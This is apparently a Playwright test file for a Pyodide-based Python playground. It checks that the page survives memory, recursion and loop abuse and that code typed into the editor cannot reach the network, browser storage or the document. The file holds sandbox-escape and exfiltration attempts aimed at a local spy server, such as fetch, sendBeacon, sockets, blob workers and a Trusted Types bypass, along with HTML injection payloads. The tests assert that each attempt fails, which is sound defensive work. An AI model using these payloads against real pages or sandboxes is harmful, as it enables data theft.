"""Whatever is typed or linked, the page stays alive, says what happened, and sends nothing anywhere."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest
from playwright.sync_api import expect

from playground.tests.actions import LONG, told, write
from playground.tests.conftest import Quiet, live, served, window

SLIP, RESULT = "#expression .editor .slip", "#expression .result"
AGAIN = "a = Value(2.0)\nb = a * {}"  # a working program, with a new number each time


@pytest.fixture(scope="module")
def rough(browser: Any, address: str) -> Iterator[Any]:
    """One page for all abuse."""
    context = window(browser)
    page = context.new_page()
    page.on("pageerror", lambda error: pytest.fail(str(error)))
    page.goto(f"{address}/index.html")
    live(page)
    yield page
    context.close()


count = 2


def works(page: Any) -> None:
    """Check that the page still answers."""
    global count
    count += 1
    write(page, AGAIN.format(count))
    told(page, f"b = {2 * count}", RESULT)
    expect(page.locator(SLIP)).to_have_text("")


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("x = 'x'*(2*10**9)\na = Value(1.0)", "MemoryError: this needs more memory"),
        ("x = [0]*10**9\na = Value(1.0)", "MemoryError: this needs more memory"),
        ("x = []\nwhile True: x.append('x'*10**8)", "MemoryError: this needs more memory"),
        ("def f(n): return f(n + 1)\nf(0)", "RecursionError"),
        ("import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1)\nf(0)", "nested too deep"),
        ("x = []\nfor i in range(10**6): x = [x]\nrepr(x)", "nested too deep"),
        ("a = " + "("*500 + "1" + ")"*500, "nested too deep"),
        ("import sys\nsys.exit()", "SystemExit: the program ended itself"),
        ("a = 1\nraise SystemExit", "SystemExit: the program ended itself"),
        ("a = 1\nraise KeyboardInterrupt", "KeyboardInterrupt"),
        ("import os\nos._exit(1)", "has been restarted"),
        ("import os\nos.abort()", "has been restarted"),
        ("x = input('how much? ')\na = Value(x)", "write the value into the text"),
        ("a = 1\nraise ValueError('x'*10**7)", "ValueError: xxx"),
        ("class E(Exception):\n    def __str__(self): raise E()\nraise E()", "its text cannot be read"),
        ("import threading\nthreading.Thread(target=print).start()", "can't start new thread"),
        ("y = Value(1.0)\nfor i in range(10**5): y = y*1.0001 + 1\ny", "200,001 nodes"),
        ("#" * 200_000 + "\na = 1", "the page runs up to"),
    ],
)  # fmt: skip
def test_what_goes_wrong_is_told_and_the_page_goes_on(rough: Any, text: str, says: str) -> None:
    write(rough, text)
    told(rough, says, SLIP)
    assert len(rough.inner_text(SLIP)) < 1000
    works(rough)


def test_a_million_lines_are_refused_in_words(rough: Any) -> None:
    rough.evaluate(
        """async () => {
            const text = new TextEncoder().encode(JSON.stringify(["expression", { text: "a = 1\\n".repeat(60_000) }]));
            const packed = new Response(new Blob([text]).stream().pipeThrough(new CompressionStream("deflate-raw")));
            location.hash = "a" + new Uint8Array(await packed.arrayBuffer()).toBase64({ alphabet: "base64url" });
        }"""
    )
    told(rough, "360,000 characters", SLIP)
    works(rough)


def test_a_loop_is_stopped_by_the_button_and_the_text_stays(rough: Any) -> None:
    text = "a = Value(1.0)\nwhile True: a = a + 1"
    expect(rough.locator(".stop")).to_be_hidden()
    write(rough, text)
    rough.click(".stop", timeout=LONG)
    told(rough, "stopped", SLIP)
    expect(rough.locator(".stop")).to_be_hidden()
    assert rough.locator("#expression .cm-content").inner_text() == text
    works(rough)


def test_a_loop_is_stopped_after_five_seconds(rough: Any) -> None:
    write(rough, "a = Value(1.0)\nwhile True: a = a + 1")
    told(rough, "is there a loop that never ends?", SLIP)
    works(rough)


def test_what_is_printed_is_shown_and_goes_with_the_text(rough: Any) -> None:
    write(rough, "print('hello', 3)\na = Value(2.0)*3")
    told(rough, "hello 3", ".printed")
    write(rough, "for i in range(10**5): print(i)\na = Value(2.0)*4")
    told(rough, "more characters", ".printed")
    works(rough)
    expect(rough.locator(".printed")).to_have_count(0)


MARKUP = [
    "<meta http-equiv='refresh' content='0;url={}'>",
    "<script>fetch('{}')</script>",
    "<img src='{}'>",
    "<img src=x onerror=\"fetch('{}')\">",
    "<iframe src='{}'></iframe>",
    "<link rel='dns-prefetch' href='{}'>",
    "<form action='{}'><button>OK</button></form>",
    "<svg><h:meta xmlns:h='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url={}'/></svg>",
    "<p style=\"background: url('{}')\">text</p>",
    "<style>@import '{}';</style>",
]


class Spy(Quiet):
    """A server that records its requests."""

    asked: ClassVar[list[str]] = []

    def end_headers(self) -> None:
        self.send_header("Access-Control-Allow-Origin", "*")
        super().end_headers()

    def do_GET(self) -> None:
        self.asked.append(self.path)
        super().do_GET()

    def do_POST(self) -> None:
        self.asked.append(self.path)
        self.send_error(404)


@pytest.fixture(scope="module")
def watched(browser: Any, built: Path) -> Iterator[tuple[Any, list[str]]]:
    """A page, and the addresses of its server and another one; both are watched."""
    with served(built, Spy) as home, served(built, Spy) as elsewhere:
        context = window(browser)
        page = context.new_page()
        page.goto(f"{home}/index.html")
        live(page)
        page.wait_for_selector("#expression .stage svg", timeout=LONG)
        asked = -1
        while asked != len(Spy.asked):  # "networkidle" isn't reliable with a worker
            asked = len(Spy.asked)
            page.wait_for_timeout(1000)
        page.evaluate("localStorage.setItem('secret', 'kept')")
        yield page, [home, elsewhere]
        assert page.url.startswith(f"{home}/index.html")
        context.close()


WAYS = {
    "fetch": "js.fetch('{}')",
    "XMLHttpRequest": "x = js.XMLHttpRequest.new()\nx.open('GET', '{}', False)\nx.send()",
    "a form sent by XMLHttpRequest": "x = js.XMLHttpRequest.new()\nx.open('POST', '{}', True)\nx.send('secret')",
    "open_url": "from pyodide.http import open_url\nopen_url('{}')",
    "pyfetch": "import asyncio\nfrom pyodide.http import pyfetch\nasyncio.ensure_future(pyfetch('{}'))",
    "urllib": "import urllib.request\nurllib.request.urlopen('{}')",
    "a socket": "import socket\n"
    "socket.create_connection(('127.0.0.1', int('{}'.split(':')[2].split('/')[0]))).send(b'GET /secret')",
    "run_js": "from pyodide.code import run_js\nrun_js('fetch(\"{}\")')",
    "a function from text": "js.Function.new('fetch(\"{}\")')()",
    "a constructor's constructor": "js.Object.constructor('return import(\"{}\")')()",
    "a timer with text": "js.setTimeout('fetch(\"{}\")', 0)",
    "import": "js.importScripts('{}')",
    "a web socket": "js.WebSocket.new('{}'.replace('http', 'ws'))",
    "events": "js.EventSource.new('{}')",
    "a beacon": "js.navigator.sendBeacon('{}', 'secret')",
    "WebTransport": "js.WebTransport.new('{}')",
    "a font": "js.FontFace.new('x', 'url({})').load()",
    "a worker": "js.Worker.new('{}')",
    "a worker from a blob": "js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js(['fetch(\"{}\")']))))",
    "a policy of its own": "rules = {{'createScriptURL': lambda x: x, 'createScript': lambda x: x}}\n"
    "js.trustedTypes.createPolicy('default', to_js(rules, dict_converter=js.Object.fromEntries))\n"
    "js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js(['fetch(\"{}\")']))))",
    "a script from a blob": "js.importScripts(js.URL.createObjectURL(js.Blob.new(to_js(['fetch(\"{}\")']))))",
    "Pyodide": "import pyodide_js\npyodide_js.loadPackage('{}.whl')",
    "Pyodide's own loader": "import pyodide_js\npyodide_js._api.loadBinaryFile('{}')",
}  # fmt: skip
BEGIN = "import js\nfrom pyodide.ffi import to_js\nprint('begun')\n"


@pytest.mark.parametrize("way", WAYS)
def test_typed_code_reaches_no_server_not_even_its_own(watched: tuple[Any, list[str]], way: str) -> None:
    page, servers = watched
    Spy.asked.clear()
    for server in servers:
        begin = BEGIN.replace("begun", f"begun {server}")
        write(page, begin + WAYS[way].format(*[f"{server}/secret"] * 3) + "\na = Value(1.0)")
        told(page, f"begun {server}", ".printed")
        page.wait_for_timeout(400)
    assert Spy.asked == []


@pytest.mark.parametrize(
    "place",
    [
        "js.localStorage.getItem('secret')",
        "js.sessionStorage",
        "js.indexedDB.open('x')",
        "js.caches.open('x')",
        "js.cookieStore",
        "js.navigator.serviceWorker.register('sw.js')",
        "js.navigator.storage.getDirectory()",
        "js.document",
    ],
)
def test_typed_code_reaches_no_storage_and_no_document(watched: tuple[Any, list[str]], place: str) -> None:
    page, _ = watched
    write(page, f"{BEGIN}{place}\na = Value(1.0)")
    told(page, "Error", SLIP)


@pytest.mark.parametrize("markup", MARKUP)
def test_markup_that_typed_code_slips_into_an_answer_runs_and_loads_nothing(watched: tuple[Any, list[str]], markup: str) -> None:
    page, servers = watched
    works(page)
    where = page.url
    Spy.asked.clear()
    lines = ["import playground.expression as tab", "show, tell = tab.show, tab.tell"]
    lines += ["forged = " + repr("<p>" + markup.format(f"{servers[1]}/secret") + "</p>")]
    lines += ["tab.tell = lambda *args: {**tell(*args), 'explain': forged, 'nudge': forged, 'mathml': forged}"]
    lines += ["def shown(*args):", "    answer = show(*args)", "    page = answer['page']"]
    lines += ["    answer['page'] = {**page, 'svg': page['svg'].replace('</svg>', forged + '</svg>')}", "    return answer"]
    lines += ["print('forged')", "a = Value(2.0) * 3"]
    write(page, "\n".join(lines))
    told(page, "forged", ".printed")
    page.wait_for_timeout(500)
    write(page, "\n".join([*lines, "tab.show = shown"]))
    page.wait_for_timeout(500)
    write(page, "b = Value(2.0) * 4")
    page.wait_for_timeout(500)
    assert Spy.asked == []
    assert page.url.partition("#")[0] == where.partition("#")[0]
    page.goto("about:blank")  # a reload might restore the lines above from the address
    page.goto(where.partition("#")[0])
    live(page)
